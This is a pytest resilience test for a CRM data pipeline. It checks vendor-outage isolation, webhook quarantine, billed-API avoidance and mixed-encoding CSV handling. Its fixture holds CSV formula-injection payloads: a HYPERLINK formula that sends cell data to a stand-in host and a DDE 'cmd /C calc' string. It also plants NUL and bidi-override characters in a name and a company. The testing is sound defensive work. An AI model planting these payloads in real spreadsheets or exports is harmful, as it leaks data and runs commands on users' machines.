"""One real `crm_pipeline` night that goes wrong in every way at once, on a generated market
served over loopback: Greenhouse answers 503 to everything, a signed poison web hook waits in
the spool, and People Data Labs is configured (its key is set). The night must still rebuild
every mart from the other sources, quarantine the poison, fail only Greenhouse's checks, and
never ask PDL (a billed call) outside its own schedule."""

from __future__ import annotations

import os
from pathlib import Path

import dagster as dg
import duckdb
import pytest

from ingest.greenhouse_webhooks import WebhookSpool
from ingest.sample.market import generate_market
from tests.sample_pipeline import run_crm_pipeline, serving_market

pytestmark = pytest.mark.slow

EVENT_FILE = "formexport_2025-11-22_resilience-night.csv"
HEADER = (
    "email_address;first_name;last_name;company;job_title;registered_at;attended;marketing_opt_in"
)
FORMULAS = [
    '=HYPERLINK("http://x.example/"&B2,"Open profile")',
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
]


def event_csv_bytes() -> bytes:
    """A UTF-8 sign-up export with one Windows-1252 row pasted in, a NUL and a right-to-left
    override in a name and a company, and formula-like names."""
    tail = ";Engineer;2025-11-15T10:00:00Z;1;1\n"
    lines = [
        (HEADER + "\n").encode(),
        ("jose.mueller@example.org;José;Müller;Acme" + tail).encode("utf-8"),
        ("ana.strasse@example.org;Ana;Straße;Acme" + tail).encode("cp1252"),
        ("eve.spoof@example.org;Eve;Mar\x00tin;Evil\u202eCorp" + tail).encode("utf-8"),
    ]
    for n, formula in enumerate(FORMULAS):
        quoted = '"' + formula.replace('"', '""') + '"'
        lines.append(f"formula{n}@example.org;{quoted};Person;Acme{tail}".encode())
    return b"".join(lines)


POISON = {
    "action": "job_created",
    "payload": {"job": {"id": {"nested": [1, 2]}, "opened_at": "not a date"}},
}


@pytest.fixture(scope="module")
def night(tmp_path_factory) -> dict:
    from tests.sample_pipeline import isolate_env

    env = pytest.MonkeyPatch()
    root = tmp_path_factory.mktemp("night")
    data = isolate_env(env, root / "data")
    # A dead vendor must not eat the night: a small retry budget keeps this test short.
    env.setenv("TALENT_CRM_HTTP_RETRY_BUDGET", "2")
    market = root / "market"
    generate_market(market, contacts=300, seed=11)
    WebhookSpool(data / "landing" / "greenhouse_webhooks").write(
        "evt-poison", "job_created", POISON
    )
    try:
        with serving_market(env, market) as apis:
            (data / "landing" / "events" / EVENT_FILE).write_bytes(event_csv_bytes())
            apis.greenhouse.inject_faults(["503"] * 1000)
            apis.pdl.clear_request_log()
            with dg.DagsterInstance.ephemeral() as instance:
                result = run_crm_pipeline(instance)
            pdl_requests = list(apis.pdl.request_log)
            pdl_configured = bool(os.environ.get("PDL_API_KEY"))
        yield {
            "result": result,
            "db": os.environ["TALENT_CRM_DB"],
            "pdl_requests": pdl_requests,
            "pdl_configured": pdl_configured,
        }
    finally:
        env.undo()


def query(db: str, sql: str) -> list[tuple]:
    con = duckdb.connect(db, read_only=True)
    try:
        return con.execute(sql).fetchall()
    finally:
        con.close()


def test_only_the_failed_source_fails(night) -> None:
    result = night["result"]
    assert not result.success
    failed = sorted(e.step_key for e in result.all_events if e.is_step_failure)
    assert failed and all("greenhouse" in step and "last_sync_succeeded" in step for step in failed)
    skipped = [e.step_key for e in result.all_events if e.is_step_skipped]
    assert skipped == []
    succeeded = {e.step_key for e in result.all_events if e.is_step_success}
    assert {"dbt_before_identity", "identity_resolution", "dbt_after_identity"} <= succeeded
    # The failed source says so in its metadata: the fix and how stale it is.
    [event] = [
        e
        for e in result.get_asset_materialization_events()
        if e.asset_key == dg.AssetKey(["raw", "greenhouse_jobs"])
    ]
    meta = event.materialization.metadata
    assert meta["sync_failed"].value is True
    assert "GREENHOUSE_BASE_URL" in meta["fix"].value
    assert meta["last_successful_sync"].value == "never"


def test_every_mart_is_rebuilt_from_the_other_sources(night) -> None:
    db = night["db"]
    sources = {r[0] for r in query(db, "select distinct source from crm.contact_sources")}
    assert "greenhouse" not in sources
    assert {"lever", "ashby", "eventbrite", "sourcing"} <= sources
    for table in (
        "crm.contacts",
        "crm.reqs",
        "gdpr.outreach_eligibility",
        "segments.contact_profiles",
    ):
        assert query(db, f"select count(*) from {table}")[0][0] > 0, table


def test_the_poison_web_hook_is_quarantined(night) -> None:
    db = night["db"]
    assert query(db, "select field from raw.quarantine where _entity = 'webhook_events'") == [
        ("subject_id",)
    ]
    assert query(db, "select count(*) from raw.greenhouse_webhook_events") == [(0,)]


def test_pdl_is_never_asked_by_the_nightly_run(night) -> None:
    assert night["pdl_configured"]  # the key was set: only the job selection kept PDL out
    assert night["pdl_requests"] == []


def test_an_explicit_pdl_run_does_ask(tmp_path: Path, isolated_env, monkeypatch) -> None:
    """The counter above can fail: materializing the enrichment on purpose reaches the fake
    PDL server."""
    from orchestration.definitions import defs

    market = tmp_path / "market"
    generate_market(market, contacts=120, seed=4)
    with serving_market(monkeypatch, market) as apis:
        apis.pdl.clear_request_log()
        with dg.DagsterInstance.ephemeral() as instance:
            landed = defs.resolve_job_def("greenhouse_sync").execute_in_process(
                instance=instance, raise_on_error=False
            )
            assert landed.success
            explicit = defs.resolve_implicit_global_asset_job_def().execute_in_process(
                instance=instance,
                asset_selection=[dg.AssetKey(["raw", "pdl_person_enrichments"])],
                run_config={"ops": {"raw__pdl_person_enrichments": {"config": {"max_calls": 5}}}},
                raise_on_error=False,
            )
        assert explicit.success
        assert 0 < len(apis.pdl.request_log) <= 5


def test_mixed_encoding_names_land_correctly_and_are_counted(night) -> None:
    db = night["db"]
    names = dict(
        query(
            db,
            "select primary_email, full_name from crm.contacts where primary_email in "
            "('jose.mueller@example.org', 'ana.strasse@example.org')",
        )
    )
    assert names == {
        "jose.mueller@example.org": "José Müller",
        "ana.strasse@example.org": "Ana Straße",
    }
    [(encoding,)] = query(
        db, f"select encoding from raw.processed_files where file_name = '{EVENT_FILE}'"
    )
    assert encoding == "utf-8+cp1252"
    [event] = [
        e
        for e in night["result"].get_asset_materialization_events()
        if e.asset_key == dg.AssetKey(["raw", "event_csv_registrations"])
    ]
    assert event.materialization.metadata["lines_decoded_as_windows_1252"].value == 1


def test_nul_and_bidi_overrides_never_reach_contacts(night) -> None:
    db = night["db"]
    assert query(
        db,
        "select count(*) from crm.contacts where contains(full_name, chr(0)) "
        "or contains(full_name, chr(8238)) or contains(current_company, chr(8238)) "
        "or contains(current_company, chr(0))",
    ) == [(0,)]
    assert query(
        db,
        "select full_name, current_company from crm.contacts "
        "where primary_email = 'eve.spoof@example.org'",
    ) == [("Eve Martin", "EvilCorp")]


def test_formula_names_stay_raw_in_the_database(night) -> None:
    rows = query(
        night["db"],
        "select first_name from staging.stg_event_csv__registrations "
        "where email like 'formula%@example.org' order by email",
    )
    assert [r[0] for r in rows] == FORMULAS
